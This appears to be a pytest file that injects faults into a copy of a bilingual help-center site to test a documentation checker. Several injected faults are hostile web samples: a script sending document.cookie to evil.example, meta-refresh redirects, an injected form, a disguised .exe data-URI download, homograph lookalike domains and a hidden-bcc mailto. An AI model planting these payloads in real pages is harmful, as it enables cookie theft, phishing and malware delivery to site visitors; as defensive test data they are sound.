"""Inject each fault the issue lists into a copy of the real project, build, check.

The copies (mkdocs.yml, docs/, overrides/, data/; scripts/ linked) are checked by
`python -m helpcenter.check --config COPY/mkdocs.yml`, which builds and checks them exactly
as `scripts/check` does, in parallel. Each check is a full build, so the faults share one
copy: each is judged by the problems on the lines it wrote (found by diffing the files
around its edit, not hard-coded), and the shared copy may have no problem elsewhere. The
few faults whose problems land away from their lines get a copy each. A fault must add an
error at the expected file and line and nothing outside its expected rules, compared with
what the check says about the real project (so the tests stay meaningful while the real docs
have problems of their own); the harmless changes, in one more copy, must add nothing at all.
"""

from __future__ import annotations

import difflib
import os
import re
import subprocess
import sys
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from helpcenter.check import plain
from sources import copy_sources

ROOT = Path(__file__).resolve().parents[1]
LINE = re.compile(r"^(?P<path>[^:]+):(?P<line>\d+):(?P<col>\d+): (?P<rule>[\w-]+): (?P<message>.*)$")


def _no_col(text: str) -> str:
    """A plain line without its column, for expectations about the line and the message."""
    return re.sub(r"^([^:]+:\d+):\d+:", r"\1:", text)


@dataclass
class Fault:
    id: str
    edit: Callable[[Path], None]
    rule: str
    path: str | None  # file the problem must name; None when only the rule matters
    needle: str | None = None  # the problem's line is the line of this text in `path`
    also: set[str] = field(default_factory=set)  # other rules the fault may set off
    message: str | None = None  # text the problem's message must contain


def append(rel: str, text: str) -> Callable[[Path], None]:
    def run(root: Path) -> None:
        path = root / rel
        path.write_text(path.read_text(encoding="utf-8").rstrip("\n") + "\n\n" + text + "\n", encoding="utf-8")
    return run


def front_matter(rel: str, block: str, body: str = "") -> Callable[[Path], None]:
    """Replace the page's front matter (whatever it is now) with `block` (GOOD_DESCRIPTION made the page's own)."""
    block = block.replace(GOOD_DESCRIPTION, f"{GOOD_DESCRIPTION[:-1]} ({Path(rel).stem}).")

    def run(root: Path) -> None:
        path = root / rel
        text = path.read_text(encoding="utf-8")
        if text.startswith("---\n"):
            text = text.split("\n---\n", 1)[1]
        path.write_text(f"---\n{block}\n---\n{text.rstrip()}\n{body}", encoding="utf-8")
    return run


def replace(rel: str, old: str, new: str) -> Callable[[Path], None]:
    """Replace the one occurrence of `old` in the page (fails loudly if the page no longer has it)."""
    def run(root: Path) -> None:
        path = root / rel
        text = path.read_text(encoding="utf-8")
        assert text.count(old) == 1, f"{old!r} is not once in {rel}"
        path.write_text(text.replace(old, new), encoding="utf-8")
    return run


def after_heading(rel: str, anchor: str, text: str) -> Callable[[Path], None]:
    """Put `text` as a paragraph right under the heading with `{#anchor}`."""
    def run(root: Path) -> None:
        path = root / rel
        lines = path.read_text(encoding="utf-8").split("\n")
        at = next(no for no, line in enumerate(lines) if line.endswith(f"{{#{anchor}}}"))
        path.write_text("\n".join(lines[: at + 1] + ["", text] + lines[at + 1:]), encoding="utf-8")
    return run


def delete(rel: str) -> Callable[[Path], None]:
    return lambda root: (root / rel).unlink()


def add_nav_entry(root: Path) -> None:
    path = root / "mkdocs.yml"
    text = path.read_text(encoding="utf-8")
    assert "\nnav:\n" in text
    path.write_text(text.replace("\nnav:\n", "\nnav:\n  - Gone: gone.md\n", 1), encoding="utf-8")


EN = "docs/en/contact/index.md"
JA = "docs/ja/contact/index.md"
EN_FAQ = "docs/en/faq.md"
JA_FAQ = "docs/ja/faq.md"
# The issue's case: one FAQ answer loses its link to the unauthorized-access steps in English,
# while the English page still links that page from other answers.
UNLINKED = ("Follow [If you suspect unauthorized access](troubles/account.md#unauthorized-access) right away.\n\n"
            "More: [Trade history looks wrong]")
# 100 characters: a description of the stated length in both languages (50–120 Japanese, 80–160 English)
GOOD_DESCRIPTION = ("description: A page with valid front matter, put in by a test so that only the mistake the"
                    " test adds is reported.")
GOOD_FM = "title: Injected\n" + GOOD_DESCRIPTION

FAULTS = [
    Fault("missing-page", append(EN, "[Gone](nope.md)"), "link-target", EN, "(nope.md)", also={"parity-facts"}),
    Fault("missing-anchor", append(EN, "See [email support](#email-support)."), "link-anchor", EN,
          "(#email-support)", message="#email-support does not exist in contact/index.md"),
    Fault("missing-anchor-other-page", append(JA, "[手数料](../faq.md#no-such-question)"), "link-anchor", JA,
          "no-such-question", message="#no-such-question は faq.md にありません", also={"parity-facts"}),
    Fault("missing-image", append(EN, "![Diagram](diagram.png)"), "link-image", EN, "diagram.png"),
    Fault("unresolved-reference", append(JA, "[フォーム][inquiry_form]から"), "link-reference", JA, "[inquiry_form]"),
    Fault("broken-navigation", add_nav_entry, "link-target", None, also={"build-warning"},
          message="navigation link to gone.md"),
    Fault("missing-translation", delete("docs/en/security.md"), "parity-pages", "docs/ja/security.md",
          also={"link-target", "link-anchor", "build-warning", "related-target"}),
    Fault("extra-section", append("docs/en/faq.md", "## Injected section {#injected-section}\n\nText."),
          "parity-sections", "docs/en/faq.md", "{#injected-section}"),
    Fault("lookalike-hyphen", append(EN, "[Support](https://bitbank-support.com/)"), "external-domain", EN,
          "bitbank-support.com"),
    Fault("lookalike-suffix", append(EN, "[Login](https://bitbank.cc.example.net/login)"), "external-domain", EN,
          "bitbank.cc.example.net"),
    Fault("lookalike-cyrillic", append(JA, "[公式サイト](https://bitb\u0430nk.cc/)"), "external-domain", JA,
          "https://bitb\u0430nk.cc/", message="CYRILLIC"),
    Fault("plain-http", append(EN, "[Website](http://bitbank.cc/)"), "external-https", EN, "http://bitbank.cc/"),
    Fault("foreign-mailto", append(JA, "[メール](mailto:help@bitbank-support.com)"), "contact-mailto", JA,
          "mailto:help@bitbank-support.com", also={"parity-facts"}),
    Fault("tel-link", append(EN, "[Call us](tel:+81-3-1234-5678)"), "contact-tel", EN, "tel:"),
    # a header name percent-encoded (%62cc is bcc) is still a recipient to a mail app
    Fault("mailto-encoded-bcc", append(EN, "[Mail us](mailto:support@bitbank.cc?%62cc=thief@bitbank-help.com)"),
          "contact-mailto", EN, "%62cc", message="thief@bitbank-help.com", also={"parity-facts"}),
    # a navigation title is printed as written on every page, outside the article
    Fault("nav-title-markup", replace("mkdocs.yml", "  - よくある質問: faq.md",
                                      """  - 'よくある質問<meta http-equiv="refresh" content="0;url=https://evil.example/">'"""
                                      ": faq.md"), "nav-title-markup", "mkdocs.yml", "よくある質問<meta"),
    Fault("phone-text", append(JA, "お急ぎの方はお電話で：０３－１２３４－５６７８"), "contact-phone", JA, "お電話で",
          also={"parity-facts"}),
    # parity-facts per section: each FAQ answer is compared on its own
    Fault("answer-loses-link", replace(EN_FAQ, UNLINKED, UNLINKED.replace(
        "Follow [If you suspect unauthorized access](troubles/account.md#unauthorized-access)", "Act on it")),
          "parity-facts", JA_FAQ, message="#faq-trade-history-wrong のリンク「troubles/account.md」"),
    Fault("number-in-another-answer", lambda root: (
        after_heading(JA_FAQ, "faq-reply-time", "目安は48時間です。")(root),
        after_heading(EN_FAQ, "faq-inquiry-number", "Allow 48 hours.")(root)),
          "parity-facts", JA_FAQ, "目安は48時間です。", message="#faq-reply-time の数値「48」"),
    # official addresses in prose come from extra.official; a placeholder naming nothing stops the build
    Fault("unknown-placeholder", append(JA, "電話：`{{ official.phone }}`"), "build-warning", JA,
          "{{ official.phone }}", message="は mkdocs.yml の extra.official にありません"),
    # parity-facts: a hard fact on one side only, reported at its line with the twin's line
    Fault("fact-number", append(EN, "Replies usually take 48 hours."), "parity-facts", EN, "48 hours",
          message="number '48' in #after-sending is here but not in docs/ja/contact/index.md"
                  " (twin: docs/ja/contact/index.md:"),
    Fault("fact-full-width-number", append(JA, "回答まで７２時間ほどかかります。"), "parity-facts", JA, "７２時間",
          message="数値「72」"),
    Fault("fact-danger", append(JA, '!!! danger "ご注意ください"\n\n    本文です。'), "parity-facts", JA, "!!! danger",
          message="#after-sending の `danger` の注記が、ここにはありますが docs/en/contact/index.md にはありません"),
    Fault("fact-link", append(EN, "See [First steps](../first-response.md#status-page)."), "parity-facts", EN,
          "first-response.md#status-page", message="link 'first-response.md'"),
    Fault("fact-email", append(JA, "`info@bitbank.cc` 宛てにお送りください。"), "parity-facts", JA, "info@bitbank.cc",
          message="メールアドレス「info@bitbank.cc」"),
    Fault("fact-official-address", append(EN, "Check the [official website][official-website]."), "parity-facts",
          EN, "[official-website]", message="official address 'official-website'"),
    Fault("no-title", front_matter("docs/ja/faq.md", GOOD_DESCRIPTION), "frontmatter-required",
          "docs/ja/faq.md", message="`title`"),
    Fault("no-description", front_matter("docs/en/faq.md", "title: Only a title"), "frontmatter-required",
          "docs/en/faq.md", message="`description`"),
    Fault("unknown-key", front_matter("docs/ja/security.md", GOOD_FM + "\nauthor: someone"),
          "frontmatter-unknown-key", "docs/ja/security.md", "author:"),
    # Issue 15: a writer's related pages must exist (the related list would skip them without a word).
    Fault("related-missing", front_matter("docs/ja/troubles/trading.md", GOOD_FM + "\nrelated:\n  - account.md\n"
                                          "  - deposit-withdrawal.md"), "related-target",
          "docs/ja/troubles/trading.md", "deposit-withdrawal.md", message="deposits-withdrawals.md"),
    Fault("bad-yaml", front_matter("docs/ja/security.md", "title: Staying safe: the basics\ndescription: x"),
          "frontmatter-syntax", "docs/ja/security.md", "title:", also={"frontmatter-required"}),
    Fault("script", append(EN, '<script>fetch("https://evil.example/?c=" + document.cookie)</script>'),
          "html-element", EN, "<script>"),
    Fault("iframe", append(JA, '<iframe src="https://bitbank.cc/"></iframe>'), "html-element", JA, "<iframe"),
    Fault("onclick", append(EN, '<a href="#email" onclick="steal()">Email</a>'), "html-event-handler", EN,
          "onclick="),
    Fault("javascript-url", append(JA, "[クリック](javascript:alert(1))"), "html-javascript-url", JA, "javascript:"),
    # Issue 13: content that redirects, navigates, downloads or runs code by other ways.
    Fault("meta-refresh", append(EN, '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
          "html-element", EN, "<meta http-equiv", message="redirect"),
    Fault("svg-xlink", append(JA, '<svg width="20" height="20"><a xlink:href="https://evil.example/login">'
                                  '<text y="15">ログイン</text></a></svg>'), "external-domain", JA, "xlink:href",
          also={"html-markup"}),  # and <text>, which a help page has no use for
    Fault("data-download", append(EN, '<a href="data:application/octet-stream;base64,TVqQAAMAAAAEAAAA"'
                                      ' download="bitbank-2fa-repair.exe">2FA repair tool</a>'),
          "link-download", EN, "bitbank-2fa-repair.exe"),
    Fault("title-meta", append(JA, '<span title="<meta http-equiv=\'refresh\' content=\'0;url=https://evil.example/\'>">'
                                   "ご注意</span>"), "html-title-markup", JA, "<span title="),
    Fault("link-title", append(EN, '[FAQ](../faq.md "<form action=\'https://evil.example/\'><input name=p></form>")'),
          "html-title-markup", EN, '"<form action=', also={"parity-facts"}),  # a link to faq.md in English only
    Fault("abbr-title", append(EN, "Two-factor codes: see the 2FA page.\n\n"
                                   '*[2FA]: <a href="https://evil.example/">two-factor</a>'),
          "html-title-markup", EN, "*[2FA]:"),
    Fault("banner-script", lambda root: (root / "data/banner.yml").write_text(
        (root / "data/banner.yml").read_text(encoding="utf-8").replace("enabled: false", "enabled: true")
        .replace("ご確認ください。\n", "ご確認ください。<script>fetch('https://evil.example/')</script>\n"),
        encoding="utf-8"), "banner-text", "data/banner.yml", "<script>", message="raw HTML"),
]

CONFLICTING = {"bad-yaml"}  # rewrites the front matter that unknown-key rewrites too

# Changes that are fine: the check must add no problem for them.
HARMLESS = {
    "query-string": lambda root: (  # in both languages: a link in one language's section only is a finding
        append(EN, "[Compose](compose.md?category=trading) or [write](compose.md?category=other#top)")(root),
        append(JA, "[文面を作る](compose.md?category=trading)")(root)),
    "official-subdomain": append(JA, "[ヘルプ](https://support.bitbank.cc/hc/ja/articles/1)"),
    "declared-section-difference": front_matter(
        "docs/en/faq.md", GOOD_FM + "\nsections_differ: the English page adds a glossary",
        "\n## Glossary {#glossary}\n\nText.\n"),
    "same-facts-in-both-languages": lambda root: (
        append(EN, "See the [FAQ](../faq.md) (48 hours).")(root),
        append(JA, "[よくある質問](../faq.md)もご覧ください（48時間）。")(root),
    ),
    "related-override": front_matter("docs/ja/troubles/other.md",
                                     GOOD_FM + "\nrelated: [../contact/compose.md, account.md, ../faq.md]"),
    "single-digit-count": append(EN, "There are 6 types of trouble."),
    "allowlisted-host": lambda root: (
        append(EN, "[FSA](https://www.fsa.go.jp/en/index.html)")(root),
        (root / "data/check").mkdir(parents=True, exist_ok=True),
        (root / "data/check/external-allowlist.txt").write_text("# regulator\nhttps://www.fsa.go.jp/en/\n"),
    ),
}


SOLO = {  # faults whose problems land away from the lines they edit: each is judged in a copy of its own
    "broken-navigation",  # at a built page
    "missing-translation",  # wherever the deleted page was linked from
    "answer-loses-link",  # at the other language's line
    "nav-title-markup",  # on every built page's menu
} | CONFLICTING
BATCH = "all-at-once"
Zone = dict[str, set[int]]  # path -> lines a fault wrote


def _copy(target: Path) -> Path:
    return copy_sources(target, link_scripts=True).parent


def _check(root: Path) -> tuple[int, list[str], str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT / "scripts"), "NO_MKDOCS_2_WARNING": "1"}
    done = subprocess.run([sys.executable, "-m", "helpcenter.check", "--config", str(root / "mkdocs.yml")],
                          cwd=root, env=env, capture_output=True, text=True, timeout=300)
    return done.returncode, done.stdout.splitlines(), done.stderr


def _texts(root: Path) -> dict[str, list[str]]:
    files = [root / "mkdocs.yml", *(p for d in ("docs", "data") for p in (root / d).rglob("*") if p.is_file())]
    return {p.relative_to(root).as_posix(): p.read_text(encoding="utf-8", errors="replace").splitlines()
            for p in files}


def _shift(lines: set[int], ops: list[tuple[str, int, int, int, int]], where: str) -> set[int]:
    """Where `lines` (1-based) are after an edit made of difflib `ops`; an edit may not rewrite them."""
    moved = set()
    for tag, i1, i2, j1, _ in ops:
        inside = {no for no in lines if i1 < no <= i2}
        assert tag == "equal" or not inside, f"{where} rewrites lines an earlier fault wrote: give it a copy"
        moved |= {no - i1 + j1 for no in inside}
    return moved


def _apply(root: Path, edits: dict[str, Callable[[Path], None]]) -> dict[str, Zone]:
    """Apply the edits in turn and return the lines each one wrote, where they are once all are applied."""
    zones: dict[str, Zone] = {}
    for name, edit in edits.items():
        before = _texts(root)
        edit(root)
        after = _texts(root)
        zones[name] = {}
        for rel in set(before) | set(after):
            old, new = before.get(rel, []), after.get(rel, [])
            if old == new:
                continue
            ops = difflib.SequenceMatcher(None, old, new, autojunk=False).get_opcodes()
            for earlier in zones.values():
                if rel in earlier:
                    earlier[rel] = _shift(earlier[rel], ops, f"{name} ({rel})")
            wrote = {no + 1 for tag, _, _, j1, j2 in ops if tag != "equal" for no in range(j1, j2)}
            if wrote and min(wrote) <= _front_matter_end(new):
                wrote.add(1)  # a key the front matter lacks is reported at its first line
            zones[name][rel] = wrote
    return zones


def _front_matter_end(lines: list[str]) -> int:
    """The line of the `---` that closes a page's front matter (0 when it has none)."""
    if not lines or lines[0] != "---":
        return 0
    return next((no for no, text in enumerate(lines[1:], start=2) if text == "---"), 0)


@pytest.fixture(scope="module")
def results(tmp_path_factory, real_check) -> dict[str, tuple[int, list[str], str, Path]]:
    """The faults at once, each SOLO fault alone, the harmless changes at once, checked in parallel; the baseline
    is what scripts/check says about the real project (`real_check`, on the build the tests share).

    Each check is a full build (about ten seconds), so the faults share one copy and each
    is judged by the problems on the lines it wrote (`zones`), as the writer's loop is in
    test_check_loop.
    """
    base = tmp_path_factory.mktemp("inject")
    batches: dict[str, dict[str, Callable[[Path], None]]] = {
        BATCH: {f.id: f.edit for f in FAULTS if f.id not in SOLO},
        "harmless": dict(HARMLESS),
    } | {f.id: {f.id: f.edit} for f in FAULTS if f.id in SOLO}
    roots, zones = {}, {}
    for name, edits in batches.items():
        roots[name] = _copy(base / name)
        zones |= _apply(roots[name], edits)
    with ThreadPoolExecutor(max_workers=os.cpu_count() or 2) as pool:
        done = dict(zip(roots, pool.map(_check, roots.values()), strict=True))
    out = {name: (*done[name], roots[name]) for name in roots}
    out["baseline"] = (real_check.returncode, real_check.stdout.splitlines(), real_check.stderr, ROOT)
    out |= {f.id: out[BATCH] for f in FAULTS if f.id not in SOLO}
    out |= dict.fromkeys(HARMLESS, out["harmless"])
    out["zones"] = zones
    return out


def _new_problems(results, name: str) -> list[re.Match[str]]:
    """The problems `name`'s copy has and the real project has not; for a shared copy, those on `name`'s lines."""
    baseline = set(results["baseline"][1])
    zone = None if name in SOLO else results["zones"].get(name)  # None: the whole copy is this case's
    found = []
    for line in results[name][1]:
        if line not in baseline:
            m = plain.PATTERN.match(line)
            assert m, f"not in path:line:col: rule: message form: {line!r}"
            if zone is None or int(m["line"]) in zone.get(m["path"], ()):
                found.append(m)
    return found


def _line_of(path: Path, needle: str, lines: set[int] | None = None) -> int:
    """The last line with `needle` (faults are appended), among `lines` when given."""
    text = path.read_text(encoding="utf-8").splitlines()
    hits = [no for no, line in enumerate(text, start=1) if needle in line and (lines is None or no in lines)]
    assert hits, f"{needle!r} not in {path}"
    return hits[-1]


def _fault_line(results, fault: Fault) -> int:
    root = results[fault.id][3]
    return _line_of(root / fault.path, fault.needle,
                    None if fault.id in SOLO else results["zones"][fault.id].get(fault.path, set()))


def test_baseline_runs(results):
    code, _, stderr, _ = results["baseline"]
    assert code in (0, 1), stderr
    assert "scripts/check:" in stderr


@pytest.mark.parametrize("fault", FAULTS, ids=lambda f: f.id)
def test_injected_fault_is_reported(results, fault: Fault):
    """The fault's problem, an error at its file and line, and no other problem on the lines it wrote."""
    code, lines, stderr, root = results[fault.id]
    assert code == 1, f"exit {code}\n{stderr}"
    new = _new_problems(results, fault.id)
    ours = [m for m in new if m["rule"] == fault.rule and (fault.path is None or m["path"] == fault.path)]
    assert ours, "expected a " + fault.rule + " problem; new problems:\n" + "\n".join(m[0] for m in new)
    if fault.needle is not None:
        assert _fault_line(results, fault) in {int(m["line"]) for m in ours}, "\n".join(m[0] for m in ours)
    if fault.message is not None:
        assert any(fault.message in m["message"] for m in ours), "\n".join(m[0] for m in ours)
    stray = [m[0] for m in new if m["rule"] not in {fault.rule} | fault.also]
    assert not stray, "unexpected problems:\n" + "\n".join(stray)
    warnings = [m[0] for m in new if m["severity"]]
    assert not warnings, "a fault is an error, never a warning:\n" + "\n".join(warnings)


def test_the_shared_copy_has_no_problem_away_from_the_faults_lines(results):
    """What the faults at once set off is on the lines they wrote: so judging each by its lines misses nothing."""
    written = {(rel, no) for name, zone in results["zones"].items() if name not in SOLO and name not in HARMLESS
               for rel, nos in zone.items() for no in nos}
    away = [m[0] for m in _new_problems(results, BATCH) if (m["path"], int(m["line"])) not in written]
    assert not away, "\n".join(away)


def test_issue_example_format(results):
    """The issue's own example, to the letter, up to the fix hint after the semicolon."""
    _, lines, _, _ = results["missing-anchor"]
    line = _fault_line(results, next(f for f in FAULTS if f.id == "missing-anchor"))
    prefix = f"{EN}:{line}: link-anchor: #email-support does not exist in contact/index.md"
    assert any(_no_col(text).startswith(prefix) for text in lines), "\n".join(lines)


def test_missing_translation_breaks_the_language_switcher(results):
    messages = [m["message"] for m in _new_problems(results, "missing-translation")]
    assert any("language switcher" in text for text in messages), "\n".join(messages)


def test_broken_navigation_is_reported_once_against_a_built_page(results):
    """A nav entry repeats on every page: one problem at a built page, plus the build warning at the entry."""
    new = _new_problems(results, "broken-navigation")
    template = [m for m in new if m["rule"] == "link-target"]
    assert len(template) == 1, "\n".join(m[0] for m in new)
    assert re.fullmatch(r"site/(en/)?[\w/-]+\.html", template[0]["path"]) and "other built pages" in template[0][0]
    line = _line_of(results["broken-navigation"][3] / "mkdocs.yml", "gone.md")
    assert [f"{m['path']}:{m['line']}" for m in new if m["rule"] == "build-warning"] == [f"mkdocs.yml:{line}"]


def test_all_faults_at_once_are_all_reported(results):
    """One run reports every problem, not just the first (every fault but those that need a copy of their own)."""
    code, _, stderr, root = results[BATCH]
    assert code == 1, stderr
    new = _new_problems(results, BATCH)
    missing = []
    for fault in FAULTS:
        if fault.id in SOLO:
            continue
        ours = [m for m in new if m["rule"] == fault.rule and (fault.path is None or m["path"] == fault.path)]
        if fault.needle is not None:
            ours = [m for m in ours if int(m["line"]) == _fault_line(results, fault)]
        if not ours:
            missing.append(fault.id)
    assert len(FAULTS) - len(SOLO) >= 30
    assert not missing, "not reported: " + ", ".join(missing) + "\n" + "\n".join(m[0] for m in new)


@pytest.mark.parametrize("name", list(HARMLESS))
def test_harmless_change_adds_no_problem(results, name: str):
    """Nothing on the lines the change wrote, and nothing anywhere in the copy that holds the harmless changes."""
    new = _new_problems(results, name) + _new_problems(results, "harmless")
    assert not new, "\n".join(m[0] for m in new)


def test_per_answer_parity_names_the_twin_answer(results):
    """A link one FAQ answer lacks is reported at the other language's line, naming the answer's heading there."""
    _, lines, _, root = results["answer-loses-link"]
    ja = (root / JA_FAQ).read_text(encoding="utf-8").splitlines()
    start = next(no for no, text in enumerate(ja, 1) if text.endswith("{#faq-trade-history-wrong}"))
    line = next(no for no, text in enumerate(ja, 1) if no > start and "troubles/account.md#unauthorized-access" in text)
    twin = _line_of(root / EN_FAQ, "{#faq-trade-history-wrong}")
    expected = (f"{JA_FAQ}:{line}: parity-facts: #faq-trade-history-wrong のリンク「troubles/account.md」が、ここには"
                f"ありますが {EN_FAQ} にはありません（対応する箇所：{EN_FAQ}:{twin}）")
    assert any(_no_col(text).startswith(expected) for text in lines), "\n".join(lines)


def test_parity_fact_names_the_twin_section_line(results):
    """The issue's form: file:line of the one-sided fact, and the line of the same section in the twin."""
    _, lines, _, root = results["fact-danger"]
    line = _fault_line(results, next(f for f in FAULTS if f.id == "fact-danger"))
    twin = _line_of(root / EN, "{#after-sending}")
    expected = (f"{JA}:{line}: parity-facts: #after-sending の `danger` の注記が、ここにはありますが {EN} には"
                f"ありません（対応する箇所：{EN}:{twin}）")
    assert any(_no_col(text).startswith(expected) for text in lines), "\n".join(lines)
